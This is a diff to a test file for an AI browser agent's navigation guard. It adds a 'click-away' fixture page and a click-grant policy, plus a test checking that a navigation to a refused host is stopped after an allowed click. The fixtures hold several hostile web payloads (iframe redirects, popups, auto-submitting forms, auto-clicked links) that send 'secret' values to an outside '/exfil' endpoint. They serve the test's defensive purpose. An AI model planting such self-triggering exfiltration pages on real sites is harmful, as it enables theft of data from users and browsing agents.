@@ -108,6 +108,7 @@ beforeAll(async () => {
   site.route("/frame-srcdoc", html("Srcdoc", `<iframe srcdoc="<p>inside</p><a id=a href='${away("/exfil?q=secret-srcdoc")}'>go</a><script>location.href=document.getElementById('a').href</script>"></iframe>`));
   site.route("/popup-noopener", html("Popup noopener", `<p>Opens a tab it cannot see.</p><script>window.open(${JSON.stringify(away("/exfil?q=secret-noopener"))}, "_blank", "noopener")</script>`));
   site.route("/form-blank", html("Form to a new tab", `<form id="f" target="_blank" method="post" action="${away("/exfil")}"><input name="q" value="secret-form-blank"></form><script>document.getElementById("f").submit()</script>`));
+  site.route("/click-away", html("Click away", `<button onclick="location.href=${JSON.stringify(away("/exfil?q=secret-click")).replace(/"/g, "&quot;")}">Go</button>`));
   site.route("/link", html("Link", `<a id="go" href="${away("/exfil?q=secret-link")}" target="_blank">Open</a><script>setTimeout(() => document.getElementById("go").click(), 100)</script>`));
 }, 60_000);
 
@@ -122,7 +123,10 @@ describe.each(DRIVERS)("navigation boundary with the %s driver", (driver) => {
   let browser: { close(): Promise<void> };
 
   beforeAll(async () => {
-    broker = await startBroker({ yaml: allowYaml("read:\n  load_timeout_ms: 5000\n") });
+    // A click grant for "Go": an action the agent may take, after which the page tries to leave.
+    broker = await startBroker({
+      yaml: `policy:\n  read:\n    allow:\n      "127.0.0.1": [".*"]\n  write:\n    click:\n      "127.0.0.1": { label: "^Go$" }\nread:\n  load_timeout_ms: 5000\n`,
+    });
     browser = await attachBrowser(broker, driver);
     client = await connectClient(broker.url);
   }, 60_000);
@@ -206,6 +210,20 @@ describe.each(DRIVERS)("navigation boundary with the %s driver", (driver) => {
       await call(client, "open_tab", { url: `${site.origin}${path}` });
       await sleep(600);
     }
+  });
+
+  it("a granted click whose page then heads for a refused host reports the stopped request; the click itself happened", async () => {
+    const opened = await call(client, "open_tab", { url: `${site.origin}/click-away` });
+    const tab = Number(/tab (\d+)/.exec(opened.text)?.[1]);
+    const snapshot = await call(client, "snapshot", { tab });
+    const revision = /revision: (\S+)/.exec(snapshot.text)?.[1] ?? "";
+    const ref = /button "Go" \[ref=([^\]]+)\]/.exec(snapshot.text)?.[1] ?? "";
+    const clicked = await call(client, "click", { tab, ref, revision });
+    expect(clicked.isError, clicked.text).toBe(false);
+    expect(clicked.text).toContain(`the page then tried to go to «${witness.origin}/exfil?q=secret-click»`);
+    expect(clicked.text).toContain("stopped the request before it left the browser");
+    expect(clicked.text).not.toContain("the tab navigated to");
+    await waitFor("the tab to be reset", async () => ((await call(client, "list_tabs")).text.includes(`tab ${tab}: «about:blank»`) ? true : undefined));
   });
 
   it("the audit log records each stopped navigation", async () => {
